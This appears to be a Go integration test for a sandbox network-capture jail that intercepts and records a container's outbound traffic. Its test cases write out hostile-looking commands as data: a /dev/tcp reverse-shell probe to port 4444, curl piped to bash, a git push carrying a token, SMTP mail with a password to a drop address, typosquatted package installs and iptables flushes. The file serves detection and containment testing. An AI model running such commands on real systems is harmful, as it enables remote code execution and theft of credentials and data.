package netcapture_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sandboxctl/sandboxctl/internal/testenv"
	"github.com/sandboxctl/sandboxctl/netcapture"
	"github.com/sandboxctl/sandboxctl/orchestrator"
	"github.com/sandboxctl/sandboxctl/trace"
)

// jailEvents follows the jail's stdout and keeps its events.
type jailEvents struct {
	mu     sync.Mutex
	events []trace.Event
	bad    []string
}

func (j *jailEvents) consume(r io.Reader) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 64<<10), 8<<20)
	for sc.Scan() {
		var e trace.Event
		err := json.Unmarshal(sc.Bytes(), &e)
		j.mu.Lock()
		if err != nil {
			j.bad = append(j.bad, sc.Text())
		} else {
			j.events = append(j.events, e)
		}
		j.mu.Unlock()
	}
}

func (j *jailEvents) snapshot() []trace.Event {
	j.mu.Lock()
	defer j.mu.Unlock()
	return append([]trace.Event(nil), j.events...)
}

func (j *jailEvents) waitFor(t *testing.T, what string, pred func(trace.Event) bool) trace.Event {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for time.Now().Before(deadline) {
		for _, e := range j.snapshot() {
			if pred(e) {
				return e
			}
		}
		time.Sleep(50 * time.Millisecond)
	}
	var b strings.Builder
	for _, e := range j.snapshot() {
		d, _ := json.Marshal(e.Data)
		fmt.Fprintf(&b, "\n  %d %s %s", e.Seq, e.Type, d)
	}
	t.Fatalf("jail reported no %s; events:%s", what, b.String())
	return trace.Event{}
}

// TestJailInDocker runs the real jail (sandboxctl __jail in a --network
// none container with NET_ADMIN only) and a sandbox joining its namespace,
// and checks what a skill's traffic turns into. Nothing leaves the machine:
// the namespace has only loopback.
func TestJailInDocker(t *testing.T) {
	image := testenv.Image(t)
	rt := testenv.RequireDocker(t)
	bin := testenv.SandboxctlBinary(t)
	id := testenv.TraceID(t)
	testenv.CleanupLabel(t, id)

	// A listener of our own on the host's loopback: nothing from the
	// sandbox may reach it.
	hostLn, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { hostLn.Close() })
	var hostHits atomic.Int64
	go func() {
		for {
			c, err := hostLn.Accept()
			if err != nil {
				return
			}
			hostHits.Add(1)
			c.Close()
		}
	}()
	hostPort := hostLn.Addr().(*net.TCPAddr).Port

	caPEM, keyPEM, err := netcapture.NewCA("Northwind IT Root CA")
	if err != nil {
		t.Fatal(err)
	}
	cfg := netcapture.DefaultConfig()
	cfg.CACert, cfg.CAKey = caPEM, keyPEM
	leafPEM, leafKey, err := netcapture.MintLeafPEM(caPEM, keyPEM, "localhost")
	if err != nil {
		t.Fatal(err)
	}
	cfgJSON, err := json.Marshal(cfg)
	if err != nil {
		t.Fatal(err)
	}
	labels := map[string]string{orchestrator.LabelTrace: id}
	jailSpec := orchestrator.Spec{
		Name: id + "-jail", Role: orchestrator.RoleJail, Image: image, Labels: labels,
		Cmd:  []string{orchestrator.AgentBin, "__jail", "--config", orchestrator.JailConfig},
		User: "0:0", Hostname: "devbox-7", NetworkMode: "none",
		CapDrop: []string{"ALL"}, CapAdd: []string{"NET_ADMIN"}, NoNewPrivileges: true,
		Memory: 256 << 20, PIDs: 128,
		Sysctls: map[string]string{"net.ipv6.conf.all.disable_ipv6": "1", "net.ipv6.conf.default.disable_ipv6": "1"},
		Files: []orchestrator.File{
			{Path: orchestrator.AgentBin, Mode: 0o755, HostPath: bin},
			{Path: orchestrator.JailConfig, Mode: 0o600, Content: cfgJSON},
		},
	}
	jail := create(t, rt, jailSpec)
	if err := jail.Start(t.Context()); err != nil {
		t.Fatalf("start jail: %v", err)
	}
	events := &jailEvents{}
	pr, pw := io.Pipe()
	var jailErr bytes.Buffer
	logsCtx, stopLogs := context.WithCancel(context.Background())
	logsDone := make(chan struct{})
	go func() { defer close(logsDone); _ = jail.Logs(logsCtx, pw, &jailErr); pw.Close() }()
	go events.consume(pr)
	t.Cleanup(func() { stopLogs(); <-logsDone })

	events.waitFor(t, "ready notice", func(e trace.Event) bool {
		n, ok := e.Data.(*trace.Notice)
		return ok && n.Message == netcapture.ReadyMessage
	})

	sbSpec := orchestrator.Spec{
		Name: id + "-sandbox", Role: orchestrator.RoleSandbox, Image: image, Labels: labels,
		Cmd: []string{"sleep", "infinity"}, User: "0:0", NetworkMode: "container:" + jail.ID(),
		CapDrop: []string{"ALL"}, CapAdd: []string{"CHOWN", "DAC_OVERRIDE", "FOWNER", "KILL", "SETUID", "SETGID", "SYS_PTRACE"},
		NoNewPrivileges: true, Memory: 512 << 20, PIDs: 256,
		Files: []orchestrator.File{
			{Path: "/tmp/trace-ca.pem", Mode: 0o644, Content: caPEM},
			{Path: "/opt/bench/leaf.pem", Mode: 0o644, Content: leafPEM},
			{Path: "/opt/bench/leaf.key", Mode: 0o644, Content: leafKey},
			{Path: "/opt/bench/server.py", Mode: 0o644, Content: []byte(benchServer)},
			{Path: "/opt/bench/client.py", Mode: 0o644, Content: []byte(benchClient)},
		},
	}
	sb := create(t, rt, sbSpec)
	if err := sb.Start(t.Context()); err != nil {
		t.Fatalf("start sandbox: %v", err)
	}
	if out, code := execIn(t, sb, "", orchestrator.InstallCA, "/tmp/trace-ca.pem"); code != 0 {
		t.Fatalf("install-ca: exit %d: %s", code, out)
	}

	const user = "1000:1000"
	hasType := func(typ trace.Type, pred func(any) bool) func(trace.Event) bool {
		return func(e trace.Event) bool { return e.Type == typ && pred(e.Data) }
	}

	t.Run("curl https without -k", func(t *testing.T) {
		out, code := execIn(t, sb, user, "curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "https://api.example.org/")
		if code != 0 || out != "200" {
			t.Fatalf("curl = %q, exit %d", out, code)
		}
		events.waitFor(t, "intercepted hello for api.example.org", hasType(trace.TypeTLSHello, func(d any) bool {
			h := d.(*trace.TLSHello)
			ip, err := netip.ParseAddr(h.DstIP)
			return h.SNI == "api.example.org" && h.Intercepted && err == nil && ip.IsGlobalUnicast() && !ip.IsPrivate() &&
				!netip.MustParsePrefix("198.18.0.0/15").Contains(ip)
		}))
	})
	t.Run("python urllib", func(t *testing.T) {
		out, code := execIn(t, sb, user, "python3", "-c", `import urllib.request; print(urllib.request.urlopen("https://pypi-mirror.example.com/simple/", timeout=10).status)`)
		if code != 0 || strings.TrimSpace(out) != "200" {
			t.Fatalf("python3 = %q, exit %d", out, code)
		}
	})
	t.Run("node fetch", func(t *testing.T) {
		out, code := execIn(t, sb, user, "node", "-e", `fetch("https://registry.example.net/pkg").then(r => console.log(r.status)).catch(e => { console.log(String(e.cause || e)); process.exit(1) })`)
		if code != 0 || strings.TrimSpace(out) != "200" {
			t.Fatalf("node = %q, exit %d", out, code)
		}
	})
	t.Run("getent hosts", func(t *testing.T) {
		out, code := execIn(t, sb, user, "getent", "hosts", "a.b.example.com")
		if code != 0 || !strings.Contains(out, "a.b.example.com") {
			t.Fatalf("getent = %q, exit %d", out, code)
		}
		events.waitFor(t, "dns query for a.b.example.com", hasType(trace.TypeDNSQuery, func(d any) bool {
			return d.(*trace.DNSQuery).Name == "a.b.example.com."
		}))
	})
	t.Run("reserved names do not resolve", func(t *testing.T) {
		for _, name := range []string{"probe.invalid", "svc.test", "metadata.google.internal"} {
			if out, code := execIn(t, sb, user, "getent", "hosts", name); code == 0 {
				t.Errorf("getent hosts %s resolved: %q", name, out)
			}
			events.waitFor(t, "NXDOMAIN for "+name, hasType(trace.TypeDNSQuery, func(d any) bool {
				q := d.(*trace.DNSQuery)
				return q.Name == name+"." && q.Rcode == "NXDOMAIN"
			}))
		}
	})
	t.Run("closed port refused and recorded", func(t *testing.T) {
		out, code := execIn(t, sb, user, "bash", "-c", "echo probe >/dev/tcp/203.0.113.9/47291")
		if code == 0 || !strings.Contains(out, "refused") {
			t.Errorf("connect to a closed port = %q, exit %d; want refused", out, code)
		}
		events.waitFor(t, "refused attempt to 203.0.113.9:47291", hasType(trace.TypeConnection, func(d any) bool {
			c := d.(*trace.Connection)
			return c.Refused && c.DstIP == "203.0.113.9" && c.DstPort == 47291
		}))
	})
	t.Run("curl of a JSON API gets JSON", func(t *testing.T) {
		out, code := execIn(t, sb, user, "bash", "-c", "curl -fsS 'https://api.weather.com/v3/forecast?lat=52.5&lon=13.4' | jq -e '.lat == 52.5'")
		if code != 0 || strings.TrimSpace(out) != "true" {
			t.Errorf("curl | jq = %q, exit %d", out, code)
		}
		out, code = execIn(t, sb, user, "bash", "-c", "curl -fsS https://data.example.org/prices/latest | jq -e 'type == \"object\" or type == \"array\"'")
		if code != 0 {
			t.Errorf("curl of an opaque path | jq = %q, exit %d", out, code)
		}
	})
	t.Run("npm install and npx", func(t *testing.T) {
		out, code := execIn(t, sb, user, "bash", "-c", "mkdir -p /tmp/np && cd /tmp/np && timeout 120 npm install --no-audit --no-fund lodash reqeusts-lite 2>&1 && test -f node_modules/lodash/index.js && npx --yes cowsay-lite")
		if code != 0 || !strings.Contains(out, "cowsay-lite") {
			t.Fatalf("npm install = %q, exit %d", out, code)
		}
		events.waitFor(t, "npm tarball of lodash", hasType(trace.TypePackage, func(d any) bool {
			p := d.(*trace.PackageFetch)
			return p.Ecosystem == "npm" && p.Name == "lodash" && p.What == "tarball" && p.Default && p.Registry == "registry.npmjs.org"
		}))
	})
	t.Run("pip install", func(t *testing.T) {
		out, code := execIn(t, sb, user, "bash", "-c", "pip3 install --user --break-system-packages --no-cache-dir colourama 2>&1 && python3 -c 'import colourama; print(colourama.__version__)'")
		if code != 0 {
			t.Fatalf("pip install = %q, exit %d", out, code)
		}
		events.waitFor(t, "wheel of colourama", hasType(trace.TypePackage, func(d any) bool {
			p := d.(*trace.PackageFetch)
			return p.Ecosystem == "pypi" && p.Name == "colourama" && p.What == "wheel" && p.Registry == "files.pythonhosted.org"
		}))
	})
	t.Run("git push sends the token", func(t *testing.T) {
		const tok = "ghp_jailtestT0ken7f3a9c2b"
		out, code := execIn(t, sb, user, "bash", "-c", "rm -rf /tmp/gr && git init -q -b main /tmp/gr && cd /tmp/gr && echo notes >n.txt && git add . && "+
			"git -c user.name=dev -c user.email=dev@corp.com commit -qm sync && GIT_TERMINAL_PROMPT=0 git push https://dev:"+tok+"@github.com/acme/backup.git main 2>&1")
		if code != 0 {
			t.Fatalf("git push = %q, exit %d", out, code)
		}
		events.waitFor(t, "push with the token", hasType(trace.TypeHTTP, func(d any) bool {
			x := d.(*trace.HTTPExchange)
			for _, v := range x.Headers["Authorization"] {
				if v == "Basic "+base64.StdEncoding.EncodeToString([]byte("dev:"+tok)) {
					return true
				}
			}
			return false
		}))
		events.waitFor(t, "git rpc with the ref", hasType(trace.TypeGit, func(d any) bool {
			g := d.(*trace.GitExchange)
			return g.Phase == "rpc" && len(g.Refs) == 1 && strings.HasSuffix(g.Refs[0], "refs/heads/main") && bytes.Contains(g.Content, []byte("notes"))
		}))
		if out, code := execIn(t, sb, user, "bash", "-c", "cd /tmp && rm -rf cl && git clone -q https://github.com/acme/tool.git cl && cat cl/README.md"); code != 0 || !strings.Contains(out, "# tool") {
			t.Errorf("git clone = %q, exit %d", out, code)
		}
	})
	t.Run("smtp mail with a body", func(t *testing.T) {
		py := `import smtplib
s = smtplib.SMTP("smtp.gmail.com", 587, timeout=10)
s.starttls()
s.login("dev@corp.com", "app-pass-5b2d")
s.sendmail("dev@corp.com", ["drop@proton.me"], "Subject: weekly\r\n\r\nBODY-7f3a9c of the mail\r\n")
s.quit()
print("sent")`
		out, code := execIn(t, sb, user, "python3", "-c", py)
		if code != 0 || !strings.Contains(out, "sent") {
			t.Fatalf("smtplib = %q, exit %d", out, code)
		}
		events.waitFor(t, "mail event", hasType(trace.TypeMail, func(d any) bool {
			m := d.(*trace.Mail)
			return m.Completed && m.TLS && m.AuthSecret == "app-pass-5b2d" && bytes.Contains(m.Data, []byte("BODY-7f3a9c")) &&
				m.Name == "smtp.gmail.com" && m.DstPort == 587
		}))
	})
	t.Run("ssh is named", func(t *testing.T) {
		execIn(t, sb, user, "timeout", "8", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5", "git@gitlab.com")
		events.waitFor(t, "ssh connection", hasType(trace.TypeConnection, func(d any) bool {
			c := d.(*trace.Connection)
			return c.Protocol == "ssh" && c.Name == "gitlab.com" && c.DstPort == 22
		}))
	})
	t.Run("bash dev tcp", func(t *testing.T) {
		if out, code := execIn(t, sb, user, "bash", "-c", "echo reverse-shell-hello >/dev/tcp/198.51.100.23/4444"); code != 0 {
			t.Fatalf("bash /dev/tcp: exit %d: %s", code, out)
		}
		events.waitFor(t, "connection to 198.51.100.23:4444", hasType(trace.TypeConnection, func(d any) bool {
			c := d.(*trace.Connection)
			return c.Proto == "tcp" && c.DstIP == "198.51.100.23" && c.DstPort == 4444 && string(c.FirstBytes) == "reverse-shell-hello\n"
		}))
	})
	t.Run("udp", func(t *testing.T) {
		execIn(t, sb, user, "bash", "-c", "echo udp-hello >/dev/udp/198.51.100.24/9999")
		events.waitFor(t, "udp datagram to 198.51.100.24:9999", hasType(trace.TypeConnection, func(d any) bool {
			c := d.(*trace.Connection)
			return c.Proto == "udp" && c.DstIP == "198.51.100.24" && c.DstPort == 9999 && string(c.FirstBytes) == "udp-hello\n"
		}))
	})
	t.Run("udp from one socket to many ports", func(t *testing.T) {
		// Every flow after the first has the first one's reply tuple, so NAT
		// gives it another source port: the catch-all must still find
		// where each datagram went.
		execIn(t, sb, user, "python3", "-c", `import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(8):
    s.sendto(b"chunk%d" % i, ("198.51.100.25", 41000 + i))`)
		for i := range 8 {
			port, payload := 41000+i, fmt.Sprintf("chunk%d", i)
			events.waitFor(t, fmt.Sprintf("udp datagram to 198.51.100.25:%d", port), hasType(trace.TypeConnection, func(d any) bool {
				c := d.(*trace.Connection)
				return c.Proto == "udp" && c.DstIP == "198.51.100.25" && c.DstPort == port && string(c.FirstBytes) == payload
			}))
		}
	})
	t.Run("curl pipe bash runs the second stage", func(t *testing.T) {
		out, code := execIn(t, sb, user, "bash", "-c", "curl -fsSL https://get.tool-setup.dev/install.sh | bash")
		if code != 0 || !strings.Contains(out, "Setup complete.") {
			t.Fatalf("curl | bash = %q, exit %d", out, code)
		}
		marker, code := execIn(t, sb, user, "bash", "-c", "cat ~/"+cfg.Marker.Path)
		if code != 0 || strings.TrimSpace(marker) != cfg.Marker.Token {
			t.Errorf("marker = %q, exit %d; want %q", marker, code, cfg.Marker.Token)
		}
		events.waitFor(t, "second stage callback", hasType(trace.TypeHTTP, func(d any) bool {
			return strings.Contains(d.(*trace.HTTPExchange).URL, "/.well-known/"+cfg.Marker.Token)
		}))
	})
	t.Run("sandbox cannot undo the jail", func(t *testing.T) {
		for _, argv := range [][]string{{"iptables", "-t", "nat", "-F"}, {"iptables-nft", "-t", "nat", "-F"}, {"ip", "route", "del", "default"}} {
			if out, code := execIn(t, sb, "", argv...); code == 0 {
				t.Errorf("%q as root in the sandbox succeeded: %s", argv, out)
			}
		}
		// The redirection still holds.
		if out, code := execIn(t, sb, user, "curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", "https://after-flush.example.net/"); out != "200" {
			t.Errorf("after the flush attempt curl = %q, exit %d", out, code)
		}
	})
	t.Run("nothing reaches the host", func(t *testing.T) {
		execIn(t, sb, user, "curl", "-sS", "--max-time", "5", fmt.Sprintf("http://127.0.0.1:%d/", hostPort))
		execIn(t, sb, user, "bash", "-c", fmt.Sprintf("echo x >/dev/tcp/127.0.0.1/%d", hostPort))
		time.Sleep(500 * time.Millisecond)
		if n := hostHits.Load(); n != 0 {
			t.Errorf("the host's loopback listener got %d connections from the sandbox", n)
		}
	})

	t.Run("throughput", func(t *testing.T) {
		// 1000 small HTTPS GETs from the sandbox through the jail, against
		// the same to a local server in the sandbox (loopback is not
		// redirected), both from python3: a figure of what a skill sees.
		execIn(t, sb, user, "sh", "-c", "python3 /opt/bench/server.py >/dev/null 2>&1 &")
		out, code := execIn(t, sb, user, "python3", "/opt/bench/client.py", "1000")
		if code != 0 {
			t.Fatalf("bench client: exit %d: %s", code, out)
		}
		t.Logf("python3 in the sandbox, 1000 GETs each (shape, direct s, through the jail s, ratio):\n%s", out)
	})

	// The stream has no gap and every line parsed.
	evs := events.snapshot()
	for i, e := range evs {
		if e.Seq != int64(i+1) {
			t.Fatalf("event %d has seq %d: a line was lost", i, e.Seq)
		}
	}
	if len(events.bad) > 0 {
		t.Errorf("unparsable lines on the jail's stdout: %q", events.bad)
	}
	if jailErr.Len() > 0 {
		t.Logf("jail stderr: %s", jailErr.String())
	}
}

const benchServer = `import http.server, ssl
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True  # else each response waits for a delayed ACK
    def do_GET(self):
        b = b'{"status":"ok"}\n'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(b)))
        self.end_headers()
        self.wfile.write(b)
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 8443), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain("/opt/bench/leaf.pem", "/opt/bench/leaf.key")
s.socket = ctx.wrap_socket(s.socket, server_side=True)
s.serve_forever()
`

const benchClient = `import http.client, ssl, sys, time
n = int(sys.argv[1])
ctx = ssl.create_default_context()
def fresh(host, port):
    t = time.perf_counter()
    for _ in range(n):
        c = http.client.HTTPSConnection(host, port, context=ctx, timeout=10)
        c.request("GET", "/v1/ping")
        r = c.getresponse(); r.read(); c.close()
        assert r.status == 200, r.status
    return time.perf_counter() - t
def kept(host, port):
    c = http.client.HTTPSConnection(host, port, context=ctx, timeout=10)
    t = time.perf_counter()
    for _ in range(n):
        c.request("GET", "/v1/ping")
        r = c.getresponse(); r.read()
        assert r.status == 200, r.status
    c.close()
    return time.perf_counter() - t
for _ in range(50):
    try:
        c = http.client.HTTPSConnection("localhost", 8443, context=ctx, timeout=2)
        c.request("GET", "/")
        c.getresponse().read()
        c.close()
        break
    except OSError:
        time.sleep(0.1)
for name, f in (("keepalive", kept), ("conn-per-request", fresh)):
    d = f("localhost", 8443)
    j = f("bench.example.net", 443)
    print("%s %.3f %.3f %.2f" % (name, d, j, j / d))
`

func create(t *testing.T, rt orchestrator.Runtime, spec orchestrator.Spec) orchestrator.Sandbox {
	t.Helper()
	sb, err := rt.Create(t.Context(), spec)
	if err != nil {
		t.Fatalf("create %s: %v", spec.Name, err)
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		if err := sb.Remove(ctx); err != nil {
			t.Errorf("remove %s: %v", spec.Name, err)
		}
	})
	return sb
}

func execIn(t *testing.T, sb orchestrator.Sandbox, user string, argv ...string) (string, int) {
	t.Helper()
	var out bytes.Buffer
	// Generous: npm in a sandbox on a loaded 2-core machine took 50 s.
	ctx, cancel := context.WithTimeout(t.Context(), 150*time.Second)
	defer cancel()
	code, err := sb.Exec(ctx, orchestrator.ExecSpec{Argv: argv, User: user, Stdout: &out, Stderr: &out})
	if err != nil {
		t.Fatalf("exec %q: %v", argv, err)
	}
	return out.String(), code
}
